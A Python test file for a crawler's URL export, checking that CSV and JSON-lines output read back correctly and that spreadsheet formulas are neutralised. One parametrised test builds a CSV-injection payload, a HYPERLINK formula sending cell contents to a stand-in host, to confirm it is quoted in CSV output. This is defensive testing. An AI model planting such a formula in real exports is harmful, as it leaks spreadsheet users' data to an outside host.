"""The export: one URL per line, as a program reads it back."""

import csv
import io
import json

import pytest

from crawler_app.base.models import Outcome, State, UrlRecord
from crawler_app.base.text.escaping import printable
from crawler_app.show.export.tables.columns import COLUMNS_BY_TABLE, URLS
from crawler_app.show.export.tables.exporting import write_csv_rows, write_json_rows
from crawler_app.show.export.tables.urls import url_row


def url(path):
    return f"http://a.test/{path}"


def write_urls(records, file, style):
    rows = map(url_row, records)
    if style == "csv":
        write_csv_rows([COLUMNS, *rows], file)
    else:
        write_json_rows(COLUMNS, rows, file)


RECORDS = [
    UrlRecord(url("x"), State.QUEUED, depth=0),
    UrlRecord(
        url("y"),
        State.DONE,
        2,
        via=url("x"),
        tries=1,
        outcome=Outcome(
            State.DONE,
            "ok",
            200,
            'text/html; a="b"',
            0,
            0.0,
            title='„Zeile“, "two";\u2028three',
        ),
        finished_at=1_700_000_000.25,
    ),
    UrlRecord(
        url("z"),
        State.FAILED,
        1,
        outcome=Outcome(State.FAILED, "network", error="a\r\nb\rc,\n"),
        finished_at=5.0,
    ),
]


COLUMNS = list(COLUMNS_BY_TABLE[URLS])

# The same values as in RECORDS; what is not known is left out.
ROWS = [
    {"url": url("x"), "state": "queued", "depth": 0, "tries": 0, "role": "link"},
    {
        "url": url("y"),
        "state": "done",
        "reason": "ok",
        "status": 200,
        "depth": 2,
        "via": url("x"),
        "content_type": 'text/html; a="b"',
        "bytes": 0,
        "took_s": 0.0,
        "tries": 1,
        "title": '„Zeile“, "two";\u2028three',
        "role": "link",
        "finished_at": "2023-11-14T22:13:20Z",
    },
    {
        "url": url("z"),
        "state": "failed",
        "reason": "network",
        "depth": 1,
        "bytes": 0,
        "tries": 0,
        "error": "a\r\nb\rc,\n",
        "role": "link",
        "finished_at": "1970-01-01T00:00:05Z",
    },
]


def test_export_as_json_lines_is_read_back():
    file = io.StringIO()

    write_urls(iter(RECORDS), file, "jsonl")

    rows = [json.loads(line) for line in file.getvalue().split("\n")[:-1]]
    assert rows == [dict.fromkeys(COLUMNS) | row for row in ROWS]


def test_export_as_csv_is_read_back(tmp_path):
    path = tmp_path / "urls.csv"

    with path.open("w", encoding="utf-8", newline="") as file:
        write_urls(RECORDS, file, "csv")

    with path.open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    assert rows == [
        {name: printable(str(row.get(name, ""))) for name in COLUMNS} for row in ROWS
    ]


@pytest.mark.parametrize(
    "first", ["=", "+", "-", "@", "\t", "\r", "\n", "\0", "\uff1d"]
)
def test_spreadsheet_formula_is_defused_in_csv(first):
    title = f'{first}HYPERLINK("http://evil.test/?" & A2)'
    outcome = Outcome(State.DONE, "ok", 200, title, error=title, title=title)
    cells, objects = io.StringIO(newline=""), io.StringIO()

    write_urls([UrlRecord(url("x"), State.DONE, 0, outcome=outcome)], cells, "csv")
    write_urls([UrlRecord(url("x"), State.DONE, 0, outcome=outcome)], objects, "jsonl")

    (row,) = csv.DictReader(io.StringIO(cells.getvalue(), newline=""))
    assert {row["title"], row["error"], row["content_type"]} == {f"'{printable(title)}"}
    assert json.loads(objects.getvalue())["title"] == title
